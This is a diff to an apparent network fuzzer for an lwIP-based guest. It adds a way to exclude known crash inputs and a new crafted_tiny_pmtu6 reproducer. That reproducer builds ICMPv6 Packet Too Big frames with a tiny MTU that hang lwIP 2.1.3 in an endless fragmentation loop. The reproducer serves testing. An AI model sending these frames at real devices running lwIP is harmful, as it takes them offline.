@@ -270,10 +270,11 @@ def ipv4_header(rng, src, dst, proto, payload_len, ident=None, flags_frag=0, ihl
 
 
 class Generator:
-    def __init__(self, corpus, seed, max_frame, bcast_share=0.15, nested_frag6=True, only=None):
+    def __init__(self, corpus, seed, max_frame, bcast_share=0.15, exclude=(), only=None):
         self.c = corpus
+        self.exclude = set(exclude)
+        self.nested_frag6 = "nested-frag6" not in self.exclude
         self.weights = [w if not only or c in only else 0 for c, w in zip(CATEGORIES, WEIGHTS)]
-        self.nested_frag6 = nested_frag6
         self.rng = random.Random(seed)
         self.max_frame = max_frame
         self.bcast_share = bcast_share
@@ -356,7 +357,32 @@ class Generator:
             f[ETH_HLEN:] = body.replace(PROTECTED_PORT, b"\x1b\x60")
         if f[12:14] == b"\x08\x06" and len(f) >= 32 and f[28:32] == self.c.host_ip_b:
             f[31] ^= 0x80
+        if self.exclude and f[12:14] == b"\x86\xdd":
+            self.defuse_ipv6(f)
         return bytes(f)
+
+    def defuse_ipv6(self, f):
+        """Keeps the known lwIP crashes (--exclude-known, see `crafted`) out of a frame, in place: walks the
+        extension-header chain as lwIP does; a non-atomic fragment header gets next header 59 (no next header)
+        instead of another extension header (nested-frag6), a Packet Too Big gets MTU 1280 instead of 48..55
+        (tiny-pmtu6)."""
+        n, nh_pos, off = len(f), 20, 54
+        for _ in range(64):
+            if nh_pos >= n:
+                return
+            nh = f[nh_pos]
+            if nh in (0, 43, 60) and off + 2 <= n:
+                nh_pos, off = off, off + (f[off + 1] + 1) * 8
+            elif nh == 44 and off + 8 <= n:
+                atomic = (f[off + 2] << 8 | f[off + 3]) & 0xFFF9 == 0
+                if not atomic and "nested-frag6" in self.exclude and f[off] in (0, 43, 44, 60):
+                    f[off] = 59
+                nh_pos, off = off, off + 8
+            else:
+                if nh == 58 and "tiny-pmtu6" in self.exclude and off + 8 <= n and f[off] == 2 and \
+                        48 <= struct.unpack_from("!I", f, off + 4)[0] <= 55:
+                    f[off + 4:off + 8] = struct.pack("!I", 1280)
+                return
 
     # categories: each returns a list of frames
     def gen_runt60(self):
@@ -694,7 +720,7 @@ class Generator:
 
 def build(a):
     corpus = Corpus(a.guest_mac, a.host_mac, a.guest_ip, a.host_ip, random.Random(a.seed))
-    return Generator(corpus, a.seed, a.max_frame, nested_frag6=not a.no_nested_frag6,
+    return Generator(corpus, a.seed, a.max_frame, exclude=a.exclude_known.split(",") if a.exclude_known else (),
                      only=a.only.split(",") if a.only else None)
 
 
@@ -822,7 +848,26 @@ def crafted_nested_frag6(gm, hm):
     return [frag(0, 1, inner[:8])] + [filler] * 60 + [frag(8, 0, inner[8:])]
 
 
-CRAFTED = {"nested-frag6": crafted_nested_frag6}
+def icmp6_frame(gm, hm, icmp):
+    """An ICMPv6 message from the host's link-local address to the guest's, checksum filled in."""
+    src, dst = link_local(hm), link_local(gm)
+    return fix_checksums(gm + hm + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(icmp), 58, 64) + src + dst + icmp)
+
+
+def crafted_tiny_pmtu6(gm, hm):
+    """lwIP 2.1.3 hang: a Packet Too Big with MTU 48..55 for a destination in the guest's destination cache.
+    nd6_input() stores any PTB MTU (no lower bound of 1280, RFC 8201 sec. 4); ip6_frag() then computes
+    nfb = (mtu - 48) & 0xfff8 = 0 bytes of payload per fragment and loops `while (left)` without ever making
+    progress: the guest's single main loop never returns (no console, no network). Three frames: an echo
+    request (the guest's reply creates the destination-cache entry for the host), the PTB (MTU 48), another
+    echo request (its 104-byte reply is > 48 bytes: ip6_frag)."""
+    echo = lambda seq: struct.pack("!BBHHH", 128, 0, 0, 0x7777, seq) + bytes(range(56))
+    inner = struct.pack("!IHBB", 6 << 28, 64, 58, 64) + link_local(gm) + link_local(hm) + bytes(8)
+    ptb = struct.pack("!BBHI", 2, 0, 0, 48) + inner
+    return [icmp6_frame(gm, hm, echo(1)), icmp6_frame(gm, hm, ptb), icmp6_frame(gm, hm, echo(2))]
+
+
+CRAFTED = {"nested-frag6": crafted_nested_frag6, "tiny-pmtu6": crafted_tiny_pmtu6}
 
 
 def cmd_crafted(a):
@@ -832,6 +877,7 @@ def cmd_crafted(a):
     s.bind((a.iface, 0))
     for f in frames:
         s.send(f)
+        time.sleep(0.01)  # one frame at a time through the guest (the order matters, not the rate)
     s.close()
     print(json.dumps({"mode": "crafted", "name": a.name, "sent": len(frames)}), flush=True)
     return 0
@@ -858,9 +904,9 @@ def main(argv=None):
     common.add_argument("--max-frame", type=bounded(int, 60, 65535), default=65535,
                         help="largest frame (bytes without FCS); send caps it at the interface's MTU + 14")
     common.add_argument("--only", help="comma-separated categories to generate (default: all)")
-    common.add_argument("--no-nested-frag6", action="store_true",
-                        help="no IPv6 fragment train whose reassembled payload starts with another fragment "
-                             "header (lwIP 2.1.3 asserts on it: see the `crafted nested-frag6` command)")
+    common.add_argument("--exclude-known", metavar="NAME,...",
+                        help="keep these known crashes out of the frames (names as for `crafted`: nested-frag6, "
+                             "tiny-pmtu6), so the rest of the generator's space can still be tested")
     ps = sub.add_parser("send", parents=[common], help="generate and send COUNT frames out of IFACE")
     ps.add_argument("--iface", default="tap0")
     ps.add_argument("--host-mac", type=parse_mac, help="source MAC (default: the interface's own)")
@@ -882,6 +928,8 @@ def main(argv=None):
     a = p.parse_args(argv)
     if getattr(a, "only", None) and not set(a.only.split(",")) <= set(CATEGORIES):
         p.error(f"--only: categories are {', '.join(CATEGORIES)}")
+    if getattr(a, "exclude_known", None) and not set(a.exclude_known.split(",")) <= set(CRAFTED):
+        p.error(f"--exclude-known: names are {', '.join(sorted(CRAFTED))}")
     return {"send": cmd_send, "describe": cmd_describe, "runts": cmd_runts, "crafted": cmd_crafted}[a.mode](a)
 
 
